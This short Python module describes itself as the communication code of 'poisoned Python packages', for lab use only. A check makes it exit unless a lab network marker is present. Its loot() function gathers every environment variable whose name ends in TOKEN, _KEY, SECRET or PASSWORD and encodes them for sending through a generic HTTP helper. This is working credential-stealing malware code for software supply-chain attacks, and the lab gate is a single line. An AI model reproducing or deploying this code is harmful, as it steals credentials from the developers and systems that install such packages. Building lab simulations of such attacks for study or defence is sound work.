"""How poisoned Python packages talk; the counterpart of wire.js. Nothing is done outside of a lab."""

import json
import os
import urllib.request

with open("/proc/self/net/dev") as links:
    if "twlab-mark:" not in links.read():
        os._exit(97)


def ask(method, url, body=None, headers=None):
    """Sends and gives the answer's bytes; None when there is none within 20 seconds."""
    request = urllib.request.Request(url, data=body, headers=headers or {}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.read()
    except OSError:
        return None


def loot():
    """What an environment holds that looks worth stealing."""
    marks = ("TOKEN", "_KEY", "SECRET", "PASSWORD")
    wanted = {name: value for name, value in os.environ.items() if name.endswith(marks)}
    return json.dumps(wanted).encode()
